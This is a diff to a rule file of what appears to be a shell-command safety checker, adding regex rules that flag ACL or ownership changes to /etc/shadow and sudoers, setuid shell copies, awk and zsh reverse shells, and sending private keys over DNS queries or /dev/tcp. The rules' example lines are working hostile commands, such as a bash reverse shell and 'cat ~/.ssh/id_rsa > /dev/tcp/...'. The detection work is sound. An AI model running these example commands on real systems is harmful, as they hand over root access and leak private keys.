@@ -398,6 +398,31 @@ RULES: tuple[Rule, ...] = (
         near_miss="chmod 644 /etc/passwd",
     ),
     Rule(
+        "acl-auth-writable",
+        Risk.CRITICAL,
+        "Gives other users write access to the account database or sudoers through an ACL: "
+        "they can become root.",
+        _re(
+            r"^setfacl\s(?:.*\s)?(?:-[a-zA-Z]*[mM]\s*|--modify[=\s]|--set[=\s])"
+            r"['\"]?(?:\S+,)?(?:[ugo]|user|group|other|mask)?:[^:\s]*:[rx-]*w"
+            r"\S*\s(?:.*\s)?/etc/(?:passwd|shadow|group|gshadow|sudoers)(?:\s|$)"
+        ),
+        example="setfacl -m u:nobody:rw /etc/shadow",
+        near_miss="setfacl -m u:nobody:r ./notes.txt",
+    ),
+    Rule(
+        "chown-auth-db",
+        Risk.CRITICAL,
+        "Gives the account database or sudoers to another owner than root: that user can "
+        "rewrite who may log in and who is root (and sudo stops working).",
+        _re(
+            r"^chown\s(?:.*\s)?(?!(?:root|0)(?::|\s))[^\s:-][^\s:]*(?::\S*)?\s(?:.*\s)?"
+            r"/etc/(?:passwd|shadow|group|gshadow|sudoers)(?:\s|$)"
+        ),
+        example="chown alice /etc/sudoers",
+        near_miss="chown root:shadow /etc/shadow",
+    ),
+    Rule(
         "chmod-shadow-readable",
         Risk.HIGH,
         "Lets other users read the password hashes (/etc/shadow) or sudoers.",
@@ -424,6 +449,19 @@ RULES: tuple[Rule, ...] = (
         _re(rf"^chmod\s(?:.*\s)?{_SETUID}\s(?:.*\s)?(?:\S*/)?{_GTFO}(?:\s|$)"),
         example="chmod u+s /bin/bash",
         near_miss="chmod u+x /bin/bash",
+    ),
+    Rule(
+        "setuid-shell-copy",
+        Risk.CRITICAL,
+        "Copies a shell, interpreter or file tool and makes the copy setuid: a root backdoor "
+        "any user can run.",
+        _re(
+            rf"\b(?:cp|install|cat|dd|rsync)\s[^;&|]*(?:\S*/)?{_GTFO}(?:\s+-\S+)*\s+(?:of=)?(\S+)"
+            rf".*\bchmod\s(?:.*\s)?{_SETUID}\s(?:.*\s)?\1(?:\s|$)"
+        ),
+        example="cp /bin/bash /tmp/.sh && chmod u+s /tmp/.sh",
+        near_miss="cp /bin/bash /tmp/.sh && chmod u+x /tmp/.sh",
+        scope="raw",
     ),
     Rule(
         "setcap-escalation",
@@ -478,14 +516,20 @@ RULES: tuple[Rule, ...] = (
             rf"|(?:^|\|\s*)(?:nc|ncat|netcat|telnet|socat|openssl\s+s_client)\b[^|]*\|\s*"
             rf"{_SHELL_NAMES}(?:\s|$)"
             rf"|{_AT_START}{_INTERP}\s(?:.*\s)?-[a-z]*[cer](?=.*(?:\bsocket\b|fsockopen|TCPSocket"
-            r"|net\.(?:connect|Socket)))(?=.*(?:dup2|pty\.spawn|/bin/(?:ba|z|da)?sh\b|cmd\.exe"
-            r"|\bexec\b|\bspawn\b|popen))"
+            r"|net\.(?:connect|Socket)|require\(\s*['\"](?:node:)?(?:net|tls|dgram)['\"]\s*\)))"
+            r"(?=.*(?:dup2|pty\.spawn|/bin/(?:ba|z|da)?sh\b|cmd\.exe|\bexec\b|\bspawn\b|popen))"
+            # gawk's network files (/inet/tcp/...) and commands run from what arrives there:
+            # `s |& getline c` reads one, `c |& getline` or system(c) runs it (operators inside
+            # the program read as `_` here)
+            r"|(?:^|\|\s*)(?:\S*/)?[gmn]?awk\s(?=.*/inet[46]?/(?:tcp|udp)/)"
+            r"(?=.*(?:\bsystem\s*\(|\bgetline\b.*\bgetline\b))"
         ),
         example="bash -i >& /dev/tcp/203.0.113.5/4444 0>&1",
         near_miss="nc -zv 203.0.113.5 22",
         scope="line",
         utility=_re(
             rf"{_SHELL_NAMES}|nc|ncat|netcat|nc\.traditional|socat|telnet|openssl|{_INTERP}"
+            r"|(?:\S*/)?[gmn]?awk"
         ),
     ),
     Rule(
@@ -500,6 +544,8 @@ RULES: tuple[Rule, ...] = (
             # a shell reading a pipe file and writing into a connection (the back pipe)
             rf"|(?:^|[;&|]\s*){_SHELL_NAMES}(?:\s+-\S+)*\s+\d*<\s*\S+\s*\|\s*"
             r"(?:nc|ncat|netcat|telnet|socat|openssl\s+s_client)\b"
+            # zsh's ztcp opens a connection on the descriptor $REPLY names; a shell reading it
+            rf"|\bztcp\s+(?!-[lacLv])\S+.*(?:^|[;&|]\s*){_SHELL_NAMES}\s[^;|]*\d*[<>]&\s*\$\{{?REPLY\b"
         ),
         example="exec 5<>/dev/tcp/203.0.113.5/4444; sh <&5 >&5 2>&5",
         near_miss="exec 5<>/dev/tcp/203.0.113.5/80; cat <&5",
@@ -510,10 +556,13 @@ RULES: tuple[Rule, ...] = (
         Risk.HIGH,
         "Sends private keys, passwords or credentials over the network, or publishes them.",
         _re(
-            rf"{_AT_START}(?:{_NETWORK}|scp|sftp|rclone|gsutil|aws\s+s3\s+(?:cp|sync|mv))\s.*"
+            rf"{_AT_START}(?:{_NETWORK}|scp|sftp|rclone|gsutil|aws\s+s3\s+(?:cp|sync|mv)"
+            # a query that carries its argument to a server: whois, DNS lookups, ping -p
+            r"|whois|dig|nslookup|host|ping)\s.*"
             rf"{_PRIVATE_FILES}"
             rf"|{_AT_START}rsync\s(?=.*\s\S*[\w\]]:\S*)(?:.*\s)?\S*{_PRIVATE_FILES}"
-            rf"|{_PRIVATE_FILES}[^|]*\|(?:[^|]*\|)*\s*(?:(?:sudo|env)\s+)*(?:{_NETWORK}|ssh)\b"
+            rf"|(?:{_PRIVATE_FILES}|(?:^|\|\s*)history\b)[^|]*\|(?:[^|]*\|)*\s*(?:(?:sudo|env)\s+)*"
+            rf"(?:{_NETWORK}|ssh)\b"
             rf"|{_AT_START}(?:cp|mv|ln|rsync|tar|zip)\s.*{_PRIVATE_FILES}.*\s(?:/var/www|/srv/(?:www|http)"
             r"|/usr/share/nginx|\S*/public_html|\S*/htdocs)"
             # a key fed to a connection: ssh host 'cat > k' < KEY, openssl s_client < KEY
@@ -531,7 +580,22 @@ RULES: tuple[Rule, ...] = (
         scope="line",
         utility=_re(
             rf"{_NETWORK}|scp|sftp|rclone|gsutil|aws|rsync|ssh|cp|mv|ln|tar|zip|openssl|{_INTERP}"
+            r"|whois|dig|nslookup|host|ping"
         ),
+    ),
+    Rule(
+        "secret-to-socket",
+        Risk.HIGH,
+        "Writes private keys, passwords or credentials into a network connection (bash's "
+        "/dev/tcp or /dev/udp).",
+        _re(
+            rf"{_PRIVATE_FILES}.*>&?\s*/dev/(?:tcp|udp)/"
+            rf"|/dev/(?:tcp|udp)/.*<\s*\S*{_PRIVATE_FILES}"
+        ),
+        example="cat ~/.ssh/id_rsa > /dev/tcp/203.0.113.5/4444",
+        near_miss="cat ~/.ssh/id_rsa.pub > /dev/tcp/203.0.113.5/4444",
+        safer="Share the public key (.pub), never the private one.",
+        scope="line",
     ),
     Rule(
         "env-upload",
